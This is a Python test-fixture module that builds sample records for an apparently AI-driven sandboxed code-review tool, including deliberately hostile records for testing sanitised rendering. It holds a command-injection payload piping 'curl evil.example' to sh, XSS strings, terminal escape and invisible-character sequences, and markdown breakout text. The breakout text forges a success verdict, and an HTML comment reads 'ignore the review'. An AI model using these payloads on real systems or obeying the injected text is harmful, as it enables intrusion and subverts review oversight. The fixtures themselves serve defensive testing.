"""Records as reviews leave them: rich, empty, hostile, partial, failed, cancelled."""

from __future__ import annotations

import re
from datetime import UTC, datetime

from box_review.finding import Dropped, Evidence, Excerpt, Finding, Proof, ProofState, Reproducer, Severity
from box_review.review import (
    BoxReport,
    ChangedFile,
    Conclusion,
    JuryReport,
    ReviewRecord,
    ReviewStatus,
    RoleReport,
    RoleStatus,
    Stage,
    Usage,
)

BASE = "1f0c9a7be2d34c5d8e6f70718293a4b5c6d7e8f9"
HEAD = "9c4e1d2b3a4f5e6d7c8b9a0f1e2d3c4b5a697887"
BEGUN = datetime(2025, 3, 14, 9, 26, 53, tzinfo=UTC)


def finding(**changed: object) -> Finding:
    """One security finding with everything a finding can have."""
    facts: dict[str, object] = {
        "roles": ("security", "quality"),
        "path": "shop/export.py",
        "start_line": 42,
        "end_line": 43,
        "severity": Severity.CRITICAL,
        "confidence": 0.97,
        "topic": "command-injection",
        "title": "The customer's file name reaches a shell",
        "why": "`run_export` builds a command line from `order.filename`, which the customer chooses, and runs it with `shell=True`.",
        "scenario": "A customer names an order `x; curl evil.example | sh` and asks for an export: the server runs the second command.",
        "suggestion": '    subprocess.run(["zip", "-r", order.filename, folder], check=True)\n',
        "reproducer": Reproducer(script="python -m shop.export 'x; touch /tmp/pwned'\ntest ! -e /tmp/pwned\n", expects="exit 1 at head"),
        "proof": Proof(state=ProofState.PROVEN, base_exit_code=0, head_exit_code=1, output="/tmp/pwned exists\n"),
        "evidence": (Evidence(tool="ruff", rule="S602", message="`subprocess` call with `shell=True` identified, security issue"),),
        "excerpt": Excerpt(
            start_line=39,
            lines=(
                "def run_export(order: Order, folder: Path) -> None:",
                '    """Pack the order\'s files for download."""',
                "    folder.mkdir(exist_ok=True)",
                '    command = f"zip -r {order.filename} {folder}"',
                "    subprocess.run(command, shell=True, check=True)",
                "",
                '    log.info("exported", order=order.id)',
            ),
        ),
    }
    return Finding.model_validate(facts | changed).identified()


def _import_cycle() -> Finding:
    return finding(
        roles=("architecture",),
        path="shop/models/order.py",
        start_line=7,
        end_line=7,
        severity=Severity.MEDIUM,
        confidence=0.8,
        topic="import-cycle",
        title="Models import the exporter, which imports the models",
        why="The new import closes a cycle of three modules, so that which of them is imported first decides whether it works.",
        scenario="A worker that imports `shop.export` before `shop.models` stops with ImportError at start.",
        suggestion=None,
        reproducer=None,
        proof=Proof(),
        evidence=(Evidence(tool="grimp", rule="cycle", message="shop.models.order -> shop.export -> shop.models"),),
        excerpt=Excerpt(
            start_line=5, lines=("from decimal import Decimal", "", "from shop.export import run_export", "", "", "class Order:")
        ),
    )


def _swallowed() -> Finding:
    return finding(
        roles=("quality",),
        path="shop/payment/retry.py",
        start_line=118,
        end_line=121,
        severity=Severity.HIGH,
        confidence=0.88,
        topic="swallowed-error",
        title="A declined card counts as paid",
        why="The `except Exception` around the charge returns the order unchanged, and the caller takes it for a paid one.",
        scenario="The gateway declines a card; `charge` raises, the handler returns, and the order ships without payment.",
        suggestion="    except GatewayTimeout:\n        return retry_later(order)\n",
        proof=Proof(state=ProofState.UNPROVEN, base_exit_code=0, head_exit_code=0, output=""),
        evidence=(
            Evidence(tool="ruff", rule="BLE001", message="Do not catch blind exception: `Exception`"),
            Evidence(tool="lizard", rule="complexity", message="charge has complexity 14, 9 before"),
        ),
        excerpt=Excerpt(
            start_line=115,
            lines=(
                "    try:",
                "        gateway.charge(order.card, order.total)",
                "        order.paid_at = now()",
                "    except Exception:",
                "        # sometimes the gateway times out,",
                "        # the next run will charge again",
                "        return order",
                "    return order",
            ),
        ),
    )


def _folded(number: int) -> Finding:
    return finding(
        roles=("quality",),
        path=f"shop/views/page_{number}.py",
        start_line=10 * number,
        end_line=10 * number,
        severity=Severity.LOW,
        confidence=0.6,
        topic="dead-code",
        title=f"The branch for version {number} can no longer be reached",
        proof=Proof(),
        folded=True,
    )


def _dropped(reason: str, line: int, title: str) -> Dropped:
    facts = finding(start_line=line, end_line=line, severity=Severity.LOW, title=title, excerpt=None, suggestion=None)
    return Dropped.model_validate(facts.model_dump() | {"reason": reason})


def _box(box_id: str, state: str = "frozen") -> BoxReport:
    return BoxReport(
        box_id=box_id,
        driver="bubblewrap",
        isolation="own namespaces for users, processes, mounts and network; seccomp; no route out",
        state=state,
        freeze="cold: files, 212 KB" if state == "frozen" else "",
        limits=("memory 2 GB", "64 processes"),
    )


def _stages(shift_s: float, reviewing_s: float) -> tuple[Stage, ...]:
    steps = (("waiting", 0.2), ("checking out", 1.1), ("evidence", 6.4), ("reviewing", reviewing_s), ("freezing", 0.5))
    at_s, stages = shift_s, []
    for name, lasting_s in steps:
        stages.append(Stage(name=name, started_s=at_s, ended_s=at_s + lasting_s))
        at_s += lasting_s
    return tuple(stages)


def _role(name: str, number: int, reviewing_s: float, findings: int) -> RoleReport:
    return RoleReport(
        role=name,
        status=RoleStatus.COMPLETED,
        harness="claude-code",
        model="claude-sonnet-4-5",
        driver="bubblewrap",
        box_id=f"bx-{number}a7f30c1",
        duration_s=8.2 + reviewing_s,
        findings=findings,
        usage=Usage(input_tokens=41_200, cached_input_tokens=30_000, output_tokens=2_100, cost_usd=0.07),
        box=_box(f"bx-{number}a7f30c1"),
        stages=_stages(0.1 * number, reviewing_s),
    )


def record(**changed: object) -> ReviewRecord:
    """A review by three agents and a jury that went well and found things."""
    facts: dict[str, object] = {
        "review_id": "rv-0123456789abcdef",
        "repository": "acme/shop",
        "title": "Export orders as zip archives",
        "base_sha": BASE,
        "head_sha": HEAD,
        "status": ReviewStatus.COMPLETED,
        "conclusion": Conclusion.FAILURE,
        "summary": "The export lets customers run commands on the server. The payment retry loses declined cards.",
        "roles": (_role("security", 1, 31.0, 3), _role("quality", 2, 44.5, 6), _role("architecture", 3, 22.7, 1)),
        "jury": JuryReport(
            status="completed",
            harness="claude-code",
            box=_box("bx-4a7f30c1"),
            duration_s=12.4,
            rechecked=3,
            stages=(
                Stage(name="rechecking", started_s=53.4, ended_s=61.0),
                Stage(name="judging", started_s=61.0, ended_s=65.3),
                Stage(name="freezing", started_s=65.3, ended_s=65.8),
            ),
        ),
        "findings": (_import_cycle(), finding(), _folded(1), _swallowed(), _folded(2)),
        "dropped": (
            _dropped("says how it looks, not how it fails", 12, "Name `tmp` says little"),
            _dropped("says how it looks, not how it fails", 80, "Blank line missing"),
            _dropped("was there before this change", 3, "Unused import"),
        ),
        "not_covered": ("web/app.min.js: 1.8 MB on one line", "shell scripts: shellcheck is not installed"),
        "changed_files": (
            ChangedFile(path="shop/export.py", status="added", added_lines=61, deleted_lines=0),
            ChangedFile(path="shop/models/order.py", status="modified", added_lines=3, deleted_lines=1),
            ChangedFile(path="shop/payment/retry.py", status="modified", added_lines=24, deleted_lines=19),
            ChangedFile(path="docs/export.png", status="added", added_lines=None, deleted_lines=None),
            ChangedFile(path="shop/legacy_export.py", status="deleted", added_lines=0, deleted_lines=140),
        ),
        "usage": Usage(input_tokens=123_600, cached_input_tokens=90_000, output_tokens=6_300, cost_usd=0.21),
        "created_at": BEGUN,
        "duration_s": 66.2,
    }
    return ReviewRecord.model_validate(facts | changed)


def empty_record() -> ReviewRecord:
    """Analyzers looked and had nothing to say."""
    roles = tuple(RoleReport(role=name, status=RoleStatus.COMPLETED, duration_s=2.0) for name in ("security", "quality"))
    return record(
        conclusion=Conclusion.SUCCESS,
        summary="",
        title="",
        roles=roles,
        jury=None,
        findings=(),
        dropped=(),
        not_covered=(),
        changed_files=(),
        usage=Usage(),
        duration_s=2.1,
    )


def partial_record() -> ReviewRecord:
    """One reviewer finished, one ran out of time, one was skipped."""
    done = _role("security", 1, 31.0, 1)
    late = RoleReport(role="quality", status=RoleStatus.TIMED_OUT, duration_s=900.0, error="stopped after 900 s, its limit")
    skipped = RoleReport(role="architecture", status=RoleStatus.SKIPPED, error="no Python in this change")
    return record(
        status=ReviewStatus.PARTIAL,
        conclusion=Conclusion.NEUTRAL,
        roles=(done, late, skipped),
        findings=(finding(roles=("security",)),),
        duration_s=905.0,
    )


def failed_record() -> ReviewRecord:
    """Nobody came to an end."""
    crashed = RoleReport(role="security", status=RoleStatus.FAILED, error="the box went away: out of memory at 2 GB")
    return record(
        status=ReviewStatus.FAILED,
        conclusion=Conclusion.NEUTRAL,
        summary="",
        roles=(crashed,),
        jury=JuryReport(status="failed", error="there was nothing to judge"),
        findings=(),
        dropped=(),
        usage=Usage(),
    )


def cancelled_record() -> ReviewRecord:
    """Someone stopped it."""
    waiting = RoleReport(role="security", status=RoleStatus.SKIPPED, error="the review was cancelled")
    return record(
        status=ReviewStatus.CANCELLED,
        conclusion=Conclusion.CANCELLED,
        summary="",
        roles=(waiting,),
        jury=None,
        findings=(),
        dropped=(),
        usage=Usage(),
    )


ESCAPES = "\x1b[2J\x1b[31mred\x1b]0;owned\x07\x9b1A\x1b]8;;https://evil.example\x07link\x1b]8;;\x07"
HIDDEN = "a\u202eb\u2066c\u200bd\u2060e\ufefff\U000e0041g"
MARKUP = "<script>alert(1)</script></style></textarea><img src=x onerror=alert(1)><!-- ignore the review --><b>bold</b>"
LIVE = (
    "![pixel](https://evil.example/p.png) [click](javascript:alert(1)) <https://evil.example> https://evil.example/a "
    "www.evil.example mail@evil.example @octocat @acme/admins #123 GH-42 acme/shop#7 "
    "9c4e1d2b3a4f5e6d7c8b9a0f1e2d3c4b5a697887"
)
BREAKOUT = "```\n@octocat\n````\n</details>\n~~~\n# Verdict: success\n| a | b |\n|---|---|\n| `x | @octocat` |\n{{ 7 * 7 }} {% raw %}"
HOSTILE = "\n".join((ESCAPES, HIDDEN, MARKUP, LIVE, BREAKOUT))


def hostile_finding(**changed: object) -> Finding:
    """A finding in which every free text attacks its reader."""
    facts: dict[str, object] = {
        "path": 'src/`<img src=x>` @octocat\x1b[31m\n# x|y\\xff/"onload=".py',
        "title": ("<script>x</script> @octocat #1 `" + ESCAPES + HIDDEN)[:200],
        "why": HOSTILE,
        "scenario": HOSTILE,
        "suggestion": HOSTILE,
        "reproducer": Reproducer(script=HOSTILE, expects=HOSTILE[:500]),
        "proof": Proof(state=ProofState.REFUTED, output=HOSTILE),
        "evidence": (Evidence(tool=(MARKUP)[:64], rule=LIVE[:128], message=HOSTILE),),
        "excerpt": Excerpt(start_line=41, lines=("```", "````` @octocat", MARKUP, ESCAPES + HIDDEN, LIVE)),
    }
    return finding(**(facts | changed))


def hostile_record() -> ReviewRecord:
    """A record in which every free text attacks its reader, and some are as long as they may be."""
    bad = hostile_finding()
    box = BoxReport(
        box_id="bx-" + ESCAPES[:40],
        driver=MARKUP[:40],
        isolation=HOSTILE[:300],
        state=HIDDEN[:40],
        freeze=LIVE[:300],
        limits=(HOSTILE,),
    )
    stage = Stage(name=(MARKUP)[:40], started_s=-5.0, ended_s=1e300)
    role = RoleReport(
        role="security",
        status=RoleStatus.FAILED,
        harness=HOSTILE,
        model=HOSTILE,
        driver=MARKUP,
        box_id=MARKUP,
        error=HOSTILE,
        box=box,
        stages=(stage, Stage(name="evidence", started_s=0.0, ended_s=1e12)),
        not_covered=(HOSTILE,),
    )
    return record(
        repository=HOSTILE[:300],
        title=HOSTILE[:1000],
        summary=HOSTILE,
        roles=(role,),
        jury=JuryReport(status="failed", error=HOSTILE, stages=(stage,), box=box),
        findings=(bad, hostile_finding(folded=True), hostile_finding(why="`" * 4000, scenario="x" * 4000, title="`" * 200)),
        dropped=(Dropped.model_validate(bad.model_dump() | {"reason": HOSTILE}),),
        not_covered=(HOSTILE,),
        changed_files=(ChangedFile(path=bad.path, status="added", added_lines=1, deleted_lines=None),),
    )


def outside_code(markdown: str) -> str:
    """What is left of `markdown` once fenced blocks and code spans are taken out, as GitHub would."""
    lines, fence = [], ""
    for line in markdown.split("\n"):
        ticks = re.fullmatch(r"(`{3,})\w*", line)
        if fence:
            fence = "" if line == fence else fence
        elif ticks:
            fence = ticks[1]
        else:
            lines.append(re.sub(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", "", line))
    assert not fence, "a fence stays open"
    return "\n".join(lines)
